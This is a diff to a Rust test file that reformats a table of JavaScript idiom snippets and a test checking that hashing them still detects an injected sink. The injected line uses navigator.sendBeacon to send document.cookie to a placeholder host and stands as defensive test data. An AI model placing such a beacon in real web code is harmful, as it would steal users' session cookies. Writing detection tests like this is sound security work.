@@ -230,11 +230,7 @@ const NPM_IDIOMS: &[(&str, &str, &str)] = &[
         "function f(a,b,c){return a&&b&&c}",
         "function f(a,b,c){return a&&(b||c)}",
     ),
-    (
-        "x = a || (b || c);",
-        "x = a || b || c;",
-        "x = a || b && c;",
-    ),
+    ("x = a || (b || c);", "x = a || b || c;", "x = a || b && c;"),
     // A literal on either side of an equality.
     (
         "if (\"object\" == typeof module) f();",
@@ -307,7 +303,8 @@ fn npm_idioms_converge() {
 #[test]
 fn npm_idioms_still_see_injected_sinks() {
     for (a, _, _) in NPM_IDIOMS {
-        let injected = format!("{a}\nnavigator.sendBeacon('https://collect.invalid/x', document.cookie);");
+        let injected =
+            format!("{a}\nnavigator.sendBeacon('https://collect.invalid/x', document.cookie);");
         assert_ne!(hash(a), hash(&injected), "{a:?}");
     }
 }
